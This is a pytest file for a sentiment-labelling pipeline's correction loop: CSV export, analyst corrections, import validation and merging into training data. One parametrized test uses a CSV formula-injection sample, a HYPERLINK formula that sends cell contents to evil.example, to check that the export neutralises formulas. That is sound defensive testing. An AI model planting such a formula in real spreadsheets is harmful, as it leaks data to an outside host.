"""The correction loop's files: an edited export validated row by row, corrections kept once per post with
their provenance, and the training readers taking the kept file as labelled data."""

from __future__ import annotations

import csv
import json
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from typer.testing import CliRunner

from pipeline.cli import app
from pipeline.corrections import (
    COLUMNS,
    export_query,
    export_row,
    merge_corrections,
    read_corrections,
    read_corrections_csv,
    write_export,
)
from pipeline.model.data import load_category_labelled, load_labelled

DOC = {
    "@timestamp": "2026-12-01T08:00:00+00:00",
    "platform": "x",
    "model_version": "v6+cat3",
    "text": "kenapa gabisa bayar pake ovo min? saldo udah kepotong @samsatbanten",
    "sentiment": {"label": "neutral", "negative": 0.2, "neutral": 0.7, "positive": 0.1},
    "category": "pajak_kendaraan",
    "agencies": ["samsat"],
    "mentions": ["samsat"],
}


def _export(tmp_path: Path, edits: list[dict[str, str]]) -> Path:
    rows = []
    for n, edit in enumerate(edits):
        row = export_row(f"x:{n}", {**DOC, "text": f"{DOC['text']} #{n}"})
        row.update(edit)
        rows.append(row)
    path = tmp_path / "labels.csv"
    write_export(rows, path)
    return path


def test_export_rows_carry_the_prediction_and_empty_correction_columns(tmp_path: Path) -> None:
    path = _export(tmp_path, [{}])
    with path.open(encoding="utf-8-sig", newline="") as fh:
        (row,) = list(csv.DictReader(fh))
    assert tuple(row) == COLUMNS
    assert row["sentiment"] == "neutral" and row["sentiment_score"] == "0.700"
    assert row["agencies"] == "samsat" and row["model_version"] == "v6+cat3"
    assert row["correct_sentiment"] == row["correct_category"] == row["correct_agencies"] == ""


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"klik")',
        "+62 812 jalan rusak",
        "-- sampah numpuk lagi",
        "@dpupr_banten jalan rusak",
        "\tSUM(1+1)",
        "'=1+1",  # an apostrophe of its own survives the round trip
    ],
)
def test_a_post_that_reads_as_a_formula_is_exported_as_text_and_imported_unchanged(
    tmp_path: Path, text: str
) -> None:
    row = export_row("x:1", {**DOC, "text": text})
    row["correct_sentiment"] = "negative"
    path = tmp_path / "labels.csv"
    write_export([row], path)
    with path.open(encoding="utf-8-sig", newline="") as fh:
        (cell,) = [r["text"] for r in csv.DictReader(fh)]
    assert cell == "'" + text  # a spreadsheet shows it as text instead of running it
    (correction,) = read_corrections_csv(path, by="rina").corrections
    assert correction.text == text.strip()  # the import strips cells, as it always did


def test_an_apostrophe_the_analyst_typed_is_kept(tmp_path: Path) -> None:
    path = _export(tmp_path, [{}])
    with path.open(encoding="utf-8-sig", newline="") as fh:
        (row,) = list(csv.DictReader(fh))
    row.update(correct_sentiment="negative", note="'sarkas' kata saya")  # typed in the spreadsheet
    with path.open("w", encoding="utf-8-sig", newline="") as fh:
        writer = csv.DictWriter(fh, fieldnames=COLUMNS)
        writer.writeheader()
        writer.writerow(row)
    (correction,) = read_corrections_csv(path, by="rina").corrections
    assert correction.note == "'sarkas' kata saya"


def test_export_query_keeps_the_window_and_agency_and_leaves_official_posts_out() -> None:
    now = datetime(2026, 12, 3, tzinfo=UTC)
    query = export_query(timedelta(days=7), "dpupr", now=now)
    assert {"range": {"@timestamp": {"gte": "2026-11-26T00:00:00+00:00"}}} in query["bool"]["filter"]
    assert {"term": {"agencies": "dpupr"}} in query["bool"]["filter"]
    assert query["bool"]["must_not"] == [{"exists": {"field": "official_account"}}]


def test_import_keeps_good_rows_reports_bad_ones_by_line_and_skips_untouched_rows(tmp_path: Path) -> None:
    path = _export(
        tmp_path,
        [
            {"correct_sentiment": "Negative"},
            {},  # not reviewed
            {"correct_sentiment": "angry"},
            {"correct_agencies": "none", "correct_category": "layanan_digital"},
            {"correct_agencies": "samsat;polisi"},
        ],
    )
    at = datetime(2026, 12, 3, 12, tzinfo=UTC)
    report = read_corrections_csv(path, by="rina", at=at)
    assert report.unchanged == 1
    assert [line for line, _ in report.bad] == [4, 6]  # the header is line 1
    assert "correct_sentiment" in report.bad[0][1] and "correct_agencies" in report.bad[1][1]
    first, second = report.corrections
    assert (first.sentiment, first.corrected, first.predicted.sentiment) == (
        "negative",
        ["sentiment"],
        "neutral",
    )
    assert (first.by, first.at, first.model_version) == ("rina", at, "v6+cat3")
    assert second.agencies == [] and second.category == "layanan_digital"
    assert second.sentiment == "neutral"  # left empty: the prediction stands
    assert second.corrected == ["category", "agencies"]


def test_a_file_that_is_not_an_export_is_one_error(tmp_path: Path) -> None:
    path = tmp_path / "x.csv"
    path.write_text("text,label\nbagus,positive\n", encoding="utf-8")
    with pytest.raises(ValueError, match=r"x\.csv:1: not an export .*missing columns: key"):
        read_corrections_csv(path, by="rina")


def test_a_later_correction_of_a_post_replaces_the_earlier_and_training_reads_the_file(
    tmp_path: Path,
) -> None:
    kept = tmp_path / "corrections" / "corrections.jsonl"
    early = read_corrections_csv(_export(tmp_path, [{"correct_sentiment": "positive"}]), by="a").corrections
    assert merge_corrections(kept, early) == (1, 0)
    later = read_corrections_csv(
        _export(tmp_path, [{"correct_sentiment": "negative"}, {"correct_category": "layanan_digital"}]),
        by="b",
    ).corrections
    assert merge_corrections(kept, later) == (1, 1)
    records = read_corrections(kept)
    assert {k: (r.sentiment, r.by) for k, r in records.items()} == {
        "x:0": ("negative", "b"),
        "x:1": ("neutral", "b"),
    }
    texts, labels = load_labelled(kept)
    assert labels == ["negative", "neutral"] and texts[0].endswith("#0")
    assert load_category_labelled(kept)[1] == ["pajak_kendaraan", "layanan_digital"]


def test_the_import_command_names_bad_lines_keeps_good_rows_and_exits_3(tmp_path: Path) -> None:
    path = _export(tmp_path, [{"correct_sentiment": "negative"}, {"correct_category": "jalan"}])
    kept = tmp_path / "kept.jsonl"
    result = CliRunner().invoke(
        app, ["label", "import", str(path), "--by", "rina", "--to", str(kept)], env={"COLUMNS": "200"}
    )
    assert result.exit_code == 3, result.output
    assert "labels.csv:3: not imported" in result.output and "correct_category" in result.output
    (line,) = kept.read_text(encoding="utf-8").splitlines()
    assert json.loads(line)["by"] == "rina"
